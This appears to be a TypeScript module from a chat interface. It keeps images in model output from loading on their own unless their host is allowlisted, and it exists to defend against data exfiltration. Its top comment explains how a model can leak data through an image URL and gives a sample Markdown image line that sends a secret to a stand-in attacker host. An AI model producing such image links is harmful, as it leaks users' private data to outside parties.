/**
 * Images in model output never load by themselves: a model can leak data through an image URL
 * (`![](https://evil.example/?q=secret)`), and merely showing it would send the request. Markdown
 * renders an empty placeholder per image (`span[data-src]`); {@link fillImages} turns it into the
 * image for hosts on the allowlist and into a click-to-load button for every other host.
 */

// Loaded with this module (the first image), into the shadow root that shows the image.
let sheet: CSSStyleSheet | undefined;
const IMAGE_STYLES = `
  .image {
    display: inline-flex;
    flex-wrap: wrap;
    align-items: center;
    gap: 0.3em;
    max-width: 100%;
  }
  .image[data-state="blocked"] {
    border: 1px dashed var(--_color-border);
    border-radius: var(--_radius);
    padding: 0.2em 0.4em;
    color: var(--_color-muted);
    font-size: 0.9em;
  }
  .image img {
    max-width: 100%;
    border-radius: calc(var(--_radius) * 0.5);
  }
  .load-image {
    font-size: 0.95em;
    padding: 0.1em 0.5em;
    overflow-wrap: anywhere;
  }
`;

function adoptStyles(node: Node): void {
  const root = node.getRootNode();
  if (!(root instanceof ShadowRoot)) return;
  if (sheet === undefined) {
    sheet = new CSSStyleSheet();
    sheet.replaceSync(IMAGE_STYLES);
  }
  if (!root.adoptedStyleSheets.includes(sheet))
    root.adoptedStyleSheets = [...root.adoptedStyleSheets, sheet];
}

/** The host of an http(s) URL, or `undefined` for anything else. */
export function imageHost(url: string): string | undefined {
  try {
    const parsed = new URL(url);
    return parsed.protocol === "https:" || parsed.protocol === "http:"
      ? parsed.hostname
      : undefined;
  } catch {
    return undefined;
  }
}

/**
 * True when `host` is on the allowlist: an entry names a host exactly (`images.example.com`) or,
 * starting with `*.`, every subdomain of one (`*.example.com`).
 */
export function hostAllowed(host: string, allowlist: readonly string[]): boolean {
  const name = host.toLowerCase();
  return allowlist.some((entry) => {
    const rule = entry.trim().toLowerCase();
    return rule.startsWith("*.") ? name.endsWith(rule.slice(1)) : name === rule;
  });
}

function showImage(slot: HTMLElement, src: string, alt: string): void {
  const img = document.createElement("img");
  img.referrerPolicy = "no-referrer";
  img.loading = "lazy";
  img.alt = alt;
  img.src = src;
  slot.dataset.state = "loaded";
  slot.replaceChildren(img);
}

/**
 * Fills the image placeholders under `root`: the image itself for allowed hosts, else a button
 * that loads it on click, labelled `label(host)`. Run again after the allowlist or the language changed: blocked images
 * of newly allowed hosts load, and buttons are relabelled.
 */
export function fillImages(
  root: ParentNode,
  allowlist: readonly string[],
  label: (host: string) => string,
): void {
  adoptStyles(root);
  for (const slot of root.querySelectorAll<HTMLElement>("[data-src]")) {
    if (slot.dataset.state === "loaded") continue;
    const src = slot.dataset.src ?? "";
    const alt = slot.dataset.alt ?? "";
    const host = imageHost(src) ?? "";
    if (hostAllowed(host, allowlist)) {
      showImage(slot, src, alt);
      continue;
    }
    const text = label(host);
    const shown = slot.querySelector("button");
    if (slot.dataset.state === "blocked" && shown !== null) {
      // Only the language may have changed.
      shown.textContent = text;
      continue;
    }
    slot.dataset.state = "blocked";
    const button = document.createElement("button");
    button.type = "button";
    button.className = "load-image";
    button.textContent = text;
    button.title = src;
    button.addEventListener("click", () => showImage(slot, src, alt), { once: true });
    const caption = document.createElement("span");
    caption.className = "alt";
    caption.textContent = alt;
    slot.replaceChildren(...(alt ? [caption, " "] : []), button);
  }
}
